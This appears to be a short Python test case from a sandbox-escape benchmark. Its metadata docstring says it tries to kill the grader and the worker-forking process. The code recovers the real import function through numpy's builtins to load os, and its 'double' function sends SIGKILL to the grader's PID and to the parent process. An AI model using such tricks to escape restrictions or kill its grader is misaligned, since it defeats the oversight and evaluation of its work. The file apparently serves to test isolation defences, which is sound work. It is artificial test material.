"""
family: other processes
tries: kills the grader and the process that forks workers
stopped_by: [identity]
alone: [landlock, seccomp]
shows: lost the grader ended
deserves: 6
situations: [root+landlock, root+chroot]
"""

import numpy as np

PLACES = {}
real_import = np.__dict__["__builtins__"]["__import__"]
os = real_import("os")


def strike(pid):
    try:
        os.kill(pid, 9)
    except OSError:
        pass


def double(x):
    strike(PLACES["grader"])
    strike(os.getppid())
    return 2 * x


def total(x):
    return np.sum(x, axis=1)
